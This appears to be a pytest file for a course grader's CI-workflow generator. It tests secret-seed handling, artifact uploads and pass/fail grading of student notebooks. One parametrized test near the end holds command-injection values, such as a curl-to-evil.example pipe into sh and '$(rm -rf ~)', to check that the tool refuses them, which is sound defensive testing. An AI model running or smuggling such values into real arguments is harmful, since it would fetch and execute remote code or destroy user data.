"""The CI workflows `grader ci` writes: they parse, and their shell steps, run in order in a
temporary checkout (see workflow_runner), grade a small class with the secret seed and produce
every artifact they upload; the student practice workflow fails for a template and passes for a
solution."""

from __future__ import annotations

import csv
import glob
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ElementTree
from pathlib import Path

import numpy as np
import pytest
import yaml
from click.testing import CliRunner
from markdown_tables import table_rows
from workflow_runner import run_github_job, run_gitlab_job, stand_ins

from grader.cli import main
from grader.config import load_config
from grader.data import assignment_split, synthetic_interactions
from grader.instructor.ci import WorkflowSettings, render_workflow
from grader.instructor.release import torch_pin
from grader.sandbox import strongest_level

from sample_notebooks import HONEST_EXPLICIT, notebook, write

pytestmark = pytest.mark.slow
REPO = Path(__file__).resolve().parents[2]
GRADER = str(Path(sys.executable).parent / "grader")
CONSTANT = "import numpy as np\n\ndef predict_ratings(user_ids, item_ids):\n    return np.full(len(user_ids), 3.5)"
SEED = "271828182845904523536028747135266249775"
needs_full = pytest.mark.skipif(strongest_level() != "full", reason="class grading uses --sandbox strict: needs root, bubblewrap and cgroups")


def _grader(*args: str, cwd: Path) -> None:
    result = subprocess.run([GRADER, *args], cwd=cwd, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr


def _class_checkout(root: Path, *ci_args: str) -> Path:
    """A repository of three submissions (one in a student folder, one unreadable) and its workflow."""
    checkout = root / "checkout"
    (checkout / "submissions" / "carol").mkdir(parents=True)
    write(checkout / "submissions", "alice", notebook(HONEST_EXPLICIT))
    write(checkout / "submissions", "bob", notebook(CONSTANT))
    (checkout / "submissions" / "carol" / "homework.ipynb").write_text("{not json")
    _grader("ci", *ci_args, "--kind", "class", "--dataset", "synthetic", cwd=checkout)
    return checkout


def _hidden_rmse_of_constant(seed: int) -> float:
    hidden = assignment_split(synthetic_interactions(), "explicit", seed).hidden
    return float(np.sqrt(np.mean((hidden.ratings - 3.5) ** 2)))


def _check_uploads(run, checkout: Path) -> None:
    for artifact in run.artifacts:
        for pattern in str(artifact["path"]).split():
            if artifact.get("if-no-files-found") != "ignore":
                assert glob.glob(str(checkout / pattern)), f"the workflow uploads {pattern}, which the job did not produce"


@needs_full
def test_github_class_workflow_grades_the_class_with_the_secret_seed(tmp_path: Path) -> None:
    checkout = _class_checkout(tmp_path, "github")
    text = (checkout / ".github/workflows/grade-class.yml").read_text()
    workflow = yaml.safe_load(text)
    assert "--split-seed" not in text and "GRADER_SPLIT_SEED: ${{ secrets.GRADER_SPLIT_SEED }}" in text

    run = run_github_job(workflow, checkout, {"GRADER_SPLIT_SEED": SEED}, stand_ins(tmp_path / "tools"))
    assert run.succeeded, run.steps
    assert ["apt-get", "install", "-y", "-q", "bubblewrap"] in run.calls and ["sudo", "apt-get", "install", "-y", "-q", "bubblewrap"] in run.calls
    assert any(call[:2] == ["pip", "install"] and "." in call for call in run.calls)
    sudo = [call for call in run.calls if call[0] == "sudo"]
    assert sudo and not any(SEED in argument for call in sudo for argument in call), "the seed must not be on a command line"

    results = checkout / "results"
    rows = {Path(row["file"]).name: row for row in csv.DictReader((results / "grades.csv").open())}
    assert set(rows) == {"alice.ipynb", "bob.ipynb", "homework.ipynb"}
    assert rows["alice.ipynb"]["score"] == "20.0" and rows["alice.ipynb"]["sandbox"] == "full"
    assert "not valid JSON" in rows["homework.ipynb"]["error"]
    # bob's constant 3.5 scored on the split of the secret seed, not the public one
    assert float(rows["bob.ipynb"]["rmse"]) == pytest.approx(_hidden_rmse_of_constant(int(SEED)), abs=1e-5)
    assert abs(_hidden_rmse_of_constant(load_config().seed) - _hidden_rmse_of_constant(int(SEED))) > 1e-4
    assert len(ElementTree.parse(results / "grades.xml").getroot().findall("testsuite")) == 3
    assert len(list((results / "feedback").glob("*.html"))) == 3 + 1  # the pages and the class overview

    summary = (tmp_path / "checkout.github_step_summary").read_text()
    table = table_rows(summary)
    assert [Path(row[0]).name for row in table] == ["alice.ipynb", "bob.ipynb", "homework.ipynb"]
    assert table[0][2] == "20 / 20" and "not graded" in table[2][-1]
    _check_uploads(run, checkout)


@needs_full
def test_github_class_workflow_stops_without_the_secret(tmp_path: Path) -> None:
    checkout = _class_checkout(tmp_path, "github")
    run = run_github_job(yaml.safe_load((checkout / ".github/workflows/grade-class.yml").read_text()), checkout, {}, stand_ins(tmp_path / "tools"))
    assert not run.succeeded
    assert "::error::Add the repository secret GRADER_SPLIT_SEED" in run.output("Grade")
    assert not (checkout / "results" / "grades.csv").exists()


@needs_full
def test_gitlab_class_job_grades_the_class(tmp_path: Path) -> None:
    checkout = _class_checkout(tmp_path, "gitlab")
    config = yaml.safe_load((checkout / ".gitlab-ci.yml").read_text())
    run = run_gitlab_job(config, "grade-class", checkout, {"GRADER_SPLIT_SEED": SEED}, stand_ins(tmp_path / "tools"))
    assert run.succeeded, run.steps
    (artifacts,) = run.artifacts
    assert artifacts["when"] == "always" and (checkout / artifacts["reports"]["junit"]).is_file()
    assert all((checkout / path).exists() for path in artifacts["paths"])
    rows = list(csv.DictReader((checkout / "results" / "grades.csv").open()))
    assert float(next(r for r in rows if r["file"].endswith("bob.ipynb"))["rmse"]) == pytest.approx(_hidden_rmse_of_constant(int(SEED)), abs=1e-5)
    assert "| notebook |" in run.output("after_script")


@pytest.fixture(scope="module")
def practice_repository(tmp_path_factory) -> Path:
    """The student hand-out (a template repository), its workflow grading Part 1 on synthetic data."""
    root = tmp_path_factory.mktemp("practice")
    _grader("handout", str(root / "handout"), "--assignment", str(REPO / "assignment"), cwd=root)
    checkout = root / "handout"
    wheel = next((checkout / "dist").glob("*.whl")).relative_to(checkout)
    _grader("ci", "github", "--kind", "practice", "--dataset", "synthetic", "--package", str(wheel),
            "--notebook", "explicit_feedback.ipynb", "--fail-under", "15", "--output", str(checkout / ".github/workflows/grade.yml"), cwd=checkout)
    return checkout


def _practice_run(repository: Path, tmp_path: Path, solution: bool):
    checkout = tmp_path / "checkout"
    shutil.copytree(repository, checkout)
    if solution:
        write(checkout, "explicit_feedback", notebook(HONEST_EXPLICIT))
    workflow = yaml.safe_load((checkout / ".github/workflows/grade.yml").read_text())
    return checkout, run_github_job(workflow, checkout, {}, stand_ins(tmp_path / "tools"))


def test_practice_workflow_fails_for_the_template(practice_repository: Path, tmp_path: Path) -> None:
    checkout, run = _practice_run(practice_repository, tmp_path, solution=False)
    assert not run.succeeded
    grade_step = next(step for step in run.steps if step[0].startswith("Grade"))
    assert grade_step[1] == 4 and "below the pass mark of 15 points" in grade_step[2]
    assert any(call[:2] == ["pip", "install"] and call[-1].startswith("dist/") for call in run.calls)
    summary = (tmp_path / "checkout.github_step_summary").read_text()
    (row,) = table_rows(summary)
    assert row[0] == "explicit_feedback.ipynb" and row[3] == "no" and "NotImplementedError" in row[-1]


def test_practice_workflow_passes_for_a_solution(practice_repository: Path, tmp_path: Path) -> None:
    checkout, run = _practice_run(practice_repository, tmp_path, solution=True)
    assert run.succeeded, run.steps
    (row,) = table_rows((tmp_path / "checkout.github_step_summary").read_text())
    assert row[2] == "20 / 20" and row[3] == "yes"


@pytest.mark.parametrize("provider", ["github", "gitlab"])
@pytest.mark.parametrize("kind", ["class", "practice"])
def test_every_generated_workflow_parses(provider: str, kind: str) -> None:
    text = render_workflow(provider, kind, WorkflowSettings(package="git+https://example.org/course/recsys-grader@v1"))
    document = yaml.safe_load(text)
    assert "--split-seed" not in text and "pip install -q git+https://example.org/course/recsys-grader@v1" in text
    assert f"torch=={torch_pin()} --index-url https://download.pytorch.org/whl/cpu" in text
    if provider == "github":
        (job,) = document["jobs"].values()
        assert job["runs-on"] == "ubuntu-24.04" and all("run" in step or "uses" in step for step in job["steps"])
    else:
        (job,) = document.values()
        assert job["script"] and job["artifacts"]["when"] == "always"


@pytest.mark.parametrize(
    "arguments",
    [
        ["--submissions", 'class" && curl evil.example | sh #'],
        ["--submissions", "$(rm -rf ~)"],
        ["--submissions", "../elsewhere"],
        ["--kind", "practice", "--notebook", "a.ipynb; curl evil.example"],
    ],
)
def test_a_folder_or_pattern_the_workflow_cannot_hold_literally_is_refused(arguments: list[str], tmp_path: Path) -> None:
    output = tmp_path / "workflow.yml"
    result = CliRunner().invoke(main, ["ci", "github", *arguments, "--output", str(output)])
    assert result.exit_code == 2 and "written into the workflow's YAML and shell lines" in result.output, result.output
    assert not output.exists()


def test_ordinary_folders_and_patterns_are_written_as_given(tmp_path: Path) -> None:
    output = tmp_path / "workflow.yml"
    result = CliRunner().invoke(main, ["ci", "github", "--submissions", "2026/hw-2_recsys", "--output", str(output)])
    assert result.exit_code == 0, result.output
    assert '"2026/hw-2_recsys/**"' in output.read_text()
    result = CliRunner().invoke(main, ["ci", "gitlab", "--kind", "practice", "--notebook", "part[12]_*.ipynb", "--output", str(output)])
    assert result.exit_code == 0 and "part[12]_*.ipynb" in output.read_text(), result.output
